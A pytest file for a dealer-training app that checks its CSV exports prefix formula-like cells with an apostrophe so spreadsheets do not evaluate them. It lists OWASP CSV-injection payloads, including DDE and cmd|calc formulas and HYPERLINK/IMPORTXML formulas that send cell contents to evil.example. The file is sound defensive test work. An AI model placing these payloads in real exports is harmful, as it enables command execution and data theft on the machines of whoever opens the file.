"""CSV exports never hand a spreadsheet a formula (issue 14): OWASP's CSV injection payloads
in every text cell a trainee can reach (their name, their answer) or that an imported file
can carry (prompts, explanations, rules), in the answers, summary and table rounds exports
and the questions command; the numbers we computed stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from trainer.core.spreadsheet import cell, is_risky
from trainer.review import export
from trainer.store import AnswerFilter, Store

# OWASP "CSV Injection" examples and the usual variants (the "-2+3+cmd|..." and "-$").
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-$1+cmd|' /C calc'!A0",
    "-3",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=10+20+cmd|' /C calc'!A0",
    "  =1+1",
    " -2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0d2+3",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
]
HARMLESS = ["Hana", "José", "", "2 + 2", "a=b", "'=quoted already", "5%", "1.5", "$5.00"]


def evaluable(text: str) -> bool:
    """What a spreadsheet would evaluate, judged here independently of the code under test:
    after white space, a formula sign (ASCII or full-width); or a control character first."""
    if text.startswith("'"):
        return False
    if text[:1] in ("\t", "\r", "\n"):
        return True
    return text.lstrip(" \t\r\n\u00a0\u3000")[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_owasp_payload_is_neutralised(payload):
    assert evaluable(payload) and is_risky(payload)
    out = cell(payload)
    assert out == "'" + payload and not evaluable(out)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_are_left_alone(text):
    assert cell(text) == text


def test_numbers_we_computed_stay_numbers():
    assert cell(-3) == -3 and cell(0) == 0 and cell(12.5) == 12.5 and cell(-0.5) == -0.5
    assert cell(True) == "True" and cell(None) == ""


class _Q:
    game_id, skill, kind, seed, form = "two-card-joker", "hand-ranking", "rank", -7, "choice"
    fields, answer = (), "Pair"

    def __init__(self, payload):
        self.prompt = payload
        self.explanation = payload
        self.citations = (payload,)


class _R:
    correct, response_ms, target_ms = False, 1500, 8000

    def __init__(self, payload):
        self.question = _Q(payload)
        self.given = payload


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_the_answers_export_neutralises_every_payload_end_to_end(tmp_path):
    path = tmp_path / "db.sqlite3"
    with Store.open(path) as s:
        for i, payload in enumerate(PAYLOADS):
            # a name a station's database or results file can carry (the trainee screen
            # refuses control characters; an old or hostile file may still hold them)
            s.db["trainees"].insert({"name": f"{payload} #{i}", "created_at": "2026-11-26T00:00:00.000Z"})
            tid = s.db.execute("SELECT max(id) FROM trainees").fetchone()[0]
            session = s.start_session(tid, "two-card-joker", seed=1, question_count=1)
            s.record_answer(session, tid, _R(payload))
        out = tmp_path / "answers.csv"
        n = export.answers_csv(s, AnswerFilter(), out)
    rows = _cells(out)
    assert n == len(PAYLOADS) == len(rows) - 1
    for row in rows[1:]:
        for header, value in zip(rows[0], row):
            if header == "question_seed":  # a numeric column: a number we computed, bare
                assert re.fullmatch(r"-?\d+", value)
                continue
            assert not evaluable(value), (value, row)
    by_seed = {r[export.ANSWER_HEADERS.index("question_seed")] for r in rows[1:]}
    assert by_seed == {"-7"}  # a negative number we wrote stays a bare number
    names = {r[1] for r in rows[1:]}
    assert "'-2+3+cmd|' /C calc'!A0 #3" in names and "'-$1+cmd|' /C calc'!A0 #4" in names


def test_the_table_rounds_export_neutralises_names(tmp_path):
    path = tmp_path / "db.sqlite3"
    with Store.open(path) as s:
        t = s.add_trainee("-2+3+cmd|' /C calc'!A0")
        session = s.start_session(t.id, "two-card-joker", seed=1, question_count=1)
        cols = [c.name for c in s.db["table_rounds"].columns]
        row = {c: 0 for c in cols}
        row.update(id="r1", session_id=session, trainee_id=t.id, station_id="=1+1", recorded_at="2026-01-01",
                   game_id="two-card-joker", mode="deal", level="learn", options="{}", action_ms="[]",
                   mistakes="[]", seed=-5)
        s.db["table_rounds"].insert(row)
        out = tmp_path / "rounds.csv"
        export.table_rounds_csv(s, out)
    rows = _cells(out)
    assert len(rows) == 2
    for header, value in zip(rows[0], rows[1]):
        if header == "seed":  # a numeric column: a number we computed, bare
            continue
        assert not evaluable(value), value
    assert rows[1][1] == "'-2+3+cmd|' /C calc'!A0" and rows[1][-1] == "'=1+1"
    assert rows[1][export.TABLE_ROUND_HEADERS.index("seed")] == "-5"


def test_the_questions_command_csv_neutralises_its_cells(tmp_path, monkeypatch):
    """dealer-trainer questions --format csv: the other CSV writer of the app."""
    import argparse

    from trainer.rulebook import commands

    def hostile(q, planned):
        return {"kind": "-2+3+cmd|' /C calc'!A0", "seed": -4, "prompt": "=1+1", "options": ["@SUM(1)", "ok"],
                "answer": "-$5.00", "explanation": "\t=1", "citations": ["+x"]}

    monkeypatch.setattr(commands, "question_record", hostile)
    out = tmp_path / "bank.csv"
    args = argparse.Namespace(command="questions", game="two-card-joker", kind=None, skill=None, count=2, seed=1,
                              format="csv", out=out)
    assert commands._questions(args) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 3
    for row in rows[1:]:
        assert row[2] == "-4"  # the seed column: a number, bare
        for value in row[:2] + row[3:]:
            assert not evaluable(value), value
    assert rows[1][5] == "'-$5.00" and rows[1][3] == "'=1+1"
